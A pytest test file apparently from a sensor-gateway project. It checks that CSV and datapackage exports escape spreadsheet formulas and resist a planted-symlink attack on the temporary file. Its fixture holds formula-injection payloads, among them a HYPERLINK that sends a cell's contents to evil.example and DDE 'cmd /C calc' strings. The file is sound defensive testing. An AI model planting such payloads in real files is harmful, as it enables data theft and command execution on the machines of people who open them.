"""Export safety (issue 15): free text is never a spreadsheet formula, and the temporary
file's name cannot be guessed (a symlink planted under it is never written through)."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from devices.inventory import Inventory
from gateway.opendata import export
from gateway.opendata.writers import text_cell
from protocols.config import Config, parse_config

from .helpers import SITE, T0_MS, known_points, write

SINCE = T0_MS / 1000 - 60
UNTIL = T0_MS / 1000 + 3 * 3600
EVIL = {"room": '=HYPERLINK("http://evil.example/?x="&A1,"room")', "zone": "+cmd|' /C calc'!A0",
        "note": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def cfg(tmp_path_factory: pytest.TempPathFactory) -> Config:
    base = tmp_path_factory.mktemp("safe")
    c = parse_config({"site": SITE, "gateway": {"data_dir": str(base / "var")},
                      "store": {"kind": "sqlite", "path": str(base / "r.sqlite")}},
                     base, env={})
    points, _ = known_points(n_devices=1, per_device=5)
    write(c.store, points)
    with Inventory.in_data_dir(c.gateway.data_dir) as inv:
        inv.set_meta("air-00", {"lat": 52.0, "lon": 4.3, **EVIL}, now=T0_MS / 1000)
    return c


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("room 2.14", "room 2.14"), ("", ""), ("a=b", "a=b")])
def test_text_cell(value: str, cell: str) -> None:
    assert text_cell(value) == cell


def test_deployments_csv_cells_are_text(cfg: Config, tmp_path: Path) -> None:
    out = tmp_path / "pkg"
    export(cfg, SINCE, UNTIL, "datapackage", out)
    with open(out / "deployments.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows, "a deployment row"
    for key, value in EVIL.items():
        assert rows[0][key] == "'" + value
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()
                       if v and not _number(v)), row


def _number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("fmt", ["csv", "datapackage"])
def test_a_planted_symlink_is_not_written_through(cfg: Config, tmp_path: Path,
                                                  fmt: str) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    out = tmp_path / ("x.csv" if fmt == "csv" else "pkg")
    planted = out.with_name(f".{out.name}.part-{os.getpid()}")  # the old, guessable name
    planted.symlink_to(victim)
    export(cfg, SINCE, UNTIL, fmt, out)  # type: ignore[arg-type]
    assert victim.read_text() == "keep me\n"
    assert not out.is_symlink()
    assert (out.is_dir() if fmt == "datapackage" else out.is_file())
    mode = stat.S_IMODE(out.stat().st_mode)
    umask = os.umask(0)
    os.umask(umask)
    assert mode == (0o777 if fmt == "datapackage" else 0o666) & ~umask
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [out.name, planted.name, victim.name])  # no temporary left
